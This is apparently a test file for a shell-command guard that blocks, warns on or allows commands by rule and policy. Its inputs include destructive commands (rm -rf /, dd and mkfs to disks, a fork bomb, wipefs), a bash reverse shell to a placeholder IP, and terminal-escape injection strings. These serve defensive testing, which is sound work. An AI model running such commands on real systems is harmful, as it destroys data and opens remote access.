import { builtinRulesDir } from '../core';
import { loadRules, parseRuleText, type RuleDef } from '../rules';
import { createGuard, guardPolicySchema, type GuardVerdict } from './guard';

const ctx = { user: 'alice', host: 'web01', account: 'root' };
const policy = (p: unknown = {}) => guardPolicySchema.parse(p);
const ids = (v: GuardVerdict): string[] => (v.action === 'allow' ? [] : v.rules.map((r) => r.id));

let builtin: RuleDef[];
beforeAll(async () => {
  builtin = await loadRules([builtinRulesDir()]);
});

describe('the guard with the default policy', () => {
  test('blocks rm -rf / and rm -rf --no-preserve-root /, naming the rule and why', () => {
    const g = createGuard(policy(), builtin);
    const v = g.check('rm -rf /', ctx);
    expect(v.action).toBe('block');
    expect(ids(v)).toEqual(['ak-lnx-rm-recursive-system-path']);
    expect(v.action !== 'allow' && v.message).toMatch(/command blocked: rm -rf \/\n {2}ak-lnx-rm-recursive-system-path \(critical\): Recursive delete of the root or a system directory: rm -r on \//);
    const w = g.check('sudo rm -rf --no-preserve-root /', ctx);
    expect(w.action).toBe('block');
    expect(ids(w).sort()).toEqual(['ak-lnx-rm-no-preserve-root', 'ak-lnx-rm-recursive-system-path']);
  });

  test('blocks the other irreversible commands: dd and mkfs to a disk, a fork bomb, wipefs', () => {
    const g = createGuard(policy(), builtin);
    for (const c of ['dd if=/dev/zero of=/dev/sda bs=1M', 'mkfs.ext4 /dev/nvme0n1p2', ':(){ :|:& };:', 'wipefs -a /dev/sdb', 'echo b > /proc/sysrq-trigger']) {
      expect([c, g.check(c, ctx).action]).toEqual([c, 'block']);
    }
  });

  test('warns on a high-severity command and allows ordinary ones', () => {
    const g = createGuard(policy(), builtin);
    const v = g.check('kill -9 -1', ctx);
    expect(v.action).toBe('warn');
    expect(ids(v)).toEqual(['ak-lnx-kill-all-processes']);
    expect(v.action !== 'allow' && v.message).toMatch(/^auditkit bastion: warning: kill -9 -1\n/);
    for (const c of ['ls -la', 'rm -rf ./build', 'systemctl status nginx', 'dd if=/dev/sda of=/mnt/backup.img', 'cd / && ls']) expect([c, g.check(c, ctx).action]).toEqual([c, 'allow']);
  });

  test('a disabled guard allows everything', () => {
    expect(createGuard(policy({ enabled: false }), builtin).check('rm -rf /', ctx)).toEqual({ action: 'allow' });
  });
});

describe('policy order and overrides', () => {
  test('the first entry that selects a rule decides its action: a per-rule allow overrides the defaults', () => {
    const g = createGuard(policy({ policy: [{ action: 'allow', ids: ['ak-lnx-rm-recursive-system-path'] }] }), builtin);
    expect(g.check('rm -rf /usr', ctx).action).toBe('allow');
    // … but it never un-blocks another rule the same command matched.
    expect(ids(g.check('rm -rf --no-preserve-root /', ctx))).toEqual(['ak-lnx-rm-no-preserve-root']);
  });

  test('entries are tried in order: a tag block before a severity warn wins, after it loses', () => {
    const first = createGuard(policy({ policy: [{ action: 'block', tags: ['reverse_shell'] }, { action: 'warn', min_severity: 'high' }] }), builtin);
    const later = createGuard(policy({ policy: [{ action: 'warn', min_severity: 'high' }, { action: 'block', tags: ['reverse_shell'] }] }), builtin);
    const shell = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'";
    expect(first.check(shell, ctx).action).toBe('block');
    expect(later.check(shell, ctx).action).toBe('warn');
  });

  test('selectors combine: ids, tags (or category), severity list and minimum all must hold', () => {
    const g = createGuard(policy({ builtin_policy: false, policy: [{ action: 'block', tags: ['destructive'], severity: ['high'] }] }), builtin);
    expect(g.check('kill -9 -1', ctx).action).toBe('block'); // destructive, high
    expect(g.check('rm -rf /', ctx).action).toBe('allow'); // destructive, but critical; default allow
  });

  test('a rule no entry selects takes the default action', () => {
    const g = createGuard(policy({ builtin_policy: false, default: 'warn' }), builtin);
    expect(g.check('rm -rf /', ctx).action).toBe('warn');
    expect(g.check('ls', ctx).action).toBe('allow');
  });

  test('rule tags are matched as well as categories', () => {
    const [rule] = parseRuleText(
      ['id: local-deploy-script', 'name: The deploy script', 'description: Only the pipeline runs it.', 'severity: low', 'tags: [change-freeze]', "condition: { cmd: { name: [deploy.sh] } }", "tests: { match: ['./deploy.sh --prod'], no_match: ['ls'] }"].join('\n'),
      'local.yml',
    );
    const g = createGuard(policy({ policy: [{ action: 'block', tags: ['change-freeze'] }] }), [...builtin, rule as RuleDef]);
    expect(ids(g.check('./deploy.sh --prod', ctx))).toEqual(['local-deploy-script']);
  });

  test('the shared rules exceptions apply at the door too', () => {
    const g = createGuard(policy(), builtin, { exceptions: [{ rules: ['ak-lnx-dd-to-block-device'], condition: { field: 'host.name', equals: 'imaging01' } }] });
    expect(g.check('dd if=/dev/zero of=/dev/sdb', { ...ctx, host: 'imaging01' }).action).toBe('allow');
    expect(g.check('dd if=/dev/zero of=/dev/sdb', ctx).action).toBe('block');
  });

  test('a policy naming an unknown rule id is refused at start-up, with every unknown id', () => {
    let err: unknown;
    try {
      createGuard(policy({ policy: [{ action: 'allow', ids: ['ak-lnx-typo', 'ak-lnx-rm-no-preserve-root', 'nope'] }] }), builtin);
    } catch (e) {
      err = e;
    }
    expect(err).toMatchObject({ code: 'AK_BASTION_GUARD_POLICY', message: expect.stringContaining('not loaded: ak-lnx-typo, nope.') });
  });

  test('the schema reports every problem of a bad policy at once', () => {
    const r = guardPolicySchema.safeParse({ default: 'deny', policy: [{ action: 'block', severity: ['huge'] }, { ids: ['x'] }], extra: 1 });
    expect(r.success).toBe(false);
    expect(r.error?.issues.map((i) => i.path.join('.')).sort()).toEqual(['', 'default', 'policy.0.severity.0', 'policy.1.action']);
  });
});

describe('messages and bounds', () => {
  test('control characters in the command are escaped in the message', () => {
    const g = createGuard(policy(), builtin);
    const v = g.check('rm -rf / \x1b]0;pwned\x07 #\u202e', ctx);
    expect(v.action).toBe('block');
    const msg = v.action === 'allow' ? '' : v.message;
    expect(msg).toContain('rm -rf / \\x1b]0;pwned\\x07 #\\u202e');
    expect(msg.replace(/\n/g, '')).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202e]/);
  });

  test('a 1 MiB command is checked in bounded time and takes the oversize action', () => {
    const g = createGuard(policy(), builtin);
    const cases: Array<[string, string]> = [
      ['pipes', 'a|'.repeat(1 << 19)],
      ['words', `echo ${'x '.repeat(1 << 19)}`],
      ['hidden at the end', `${' '.repeat(1 << 20)}rm -rf /`],
      ['quotes', '"'.repeat(1 << 20)],
    ];
    for (const [name, cmd] of cases) {
      const t0 = performance.now();
      const v = g.check(cmd, ctx);
      const ms = performance.now() - t0;
      process.stdout.write(`guard: 1 MiB command (${name}) checked in ${ms.toFixed(1)} ms → ${v.action}\n`);
      expect(v.action).toBe('block');
      expect(v.action !== 'allow' && v.message).toMatch(/longer than the guard checks \((8192|\d{3}) of \d+ characters/);
      expect(ms).toBeLessThan(5000);
    }
    // A command the extractor cut is oversize too, whatever its length.
    const cutByExtractor = g.check('echo ok', { ...ctx, truncated: true });
    expect(cutByExtractor.action).toBe('block');
    expect(cutByExtractor.action !== 'allow' && cutByExtractor.message).toContain('cut where it was read');
    // Many pipeline stages are cut as well: the rules' shell parse is not linear in them.
    expect(g.check(`${'true|'.repeat(300)}true`, ctx).action).toBe('block');
    expect(g.check(`${'true|'.repeat(100)}true`, ctx).action).toBe('allow');
    const relaxed = createGuard(policy({ oversize: 'warn' }), builtin);
    expect(relaxed.check(`rm -rf / ${'x'.repeat(1 << 20)}`, ctx).action).toBe('block'); // the start is still checked
  });

  test('typical commands are checked in about a millisecond or less each', () => {
    const g = createGuard(policy(), builtin);
    const cmds = ['ls -la', 'cd /var/log && tail -n 100 syslog', 'sudo systemctl restart nginx', 'grep -r TODO src | wc -l', 'rm -rf /'];
    for (const c of cmds) g.check(c, ctx); // warm up
    const n = 2000;
    const t0 = performance.now();
    for (let i = 0; i < n; i++) g.check(cmds[i % cmds.length] as string, ctx);
    const per = (performance.now() - t0) / n;
    process.stdout.write(`guard: ${per.toFixed(3)} ms per typical command (${builtin.length} rules)\n`);
    expect(per).toBeLessThan(50);
  });
});
